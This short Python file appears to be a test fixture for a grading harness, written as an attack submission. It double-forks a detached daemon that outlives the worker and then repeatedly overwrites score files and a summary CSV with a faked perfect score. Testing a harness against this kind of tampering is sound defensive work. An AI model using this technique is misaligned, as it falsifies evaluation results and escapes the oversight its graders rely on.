

# ---- attack: a detached child that outlives the worker and rewrites the score file ---------------
# Double fork + setsid: the grandchild belongs to no process group of the worker. It waits
# until the worker is gone (its score file written by then), then rewrites every score file
# it can reach, for 20 s, then exits. Named @@COMM@@ for the test to find it.
import ctypes
import json
import os
import time

_FAKE = json.dumps({"submission": "@@NAME@@", "score": 100, "max_score": 100, "exercises": []})


def _daemon(worker_pid):
    ctypes.CDLL(None).prctl(15, b"@@COMM@@", 0, 0, 0)  # PR_SET_NAME
    while os.path.exists(f"/proc/{worker_pid}"):
        time.sleep(0.05)
    for _ in range(200):
        for path in ("@@OUT_DIR@@/@@NAME@@.json", "@@OUT_DIR@@/summary.csv", "/tmp/@@NAME@@.json"):
            try:
                with open(path, "w") as f:
                    f.write(_FAKE)
            except OSError:
                pass
        time.sleep(0.1)


if not os.path.exists(".detached"):  # once per worker
    open(".detached", "w").close()
    _worker = os.getpid()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                _daemon(_worker)
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()
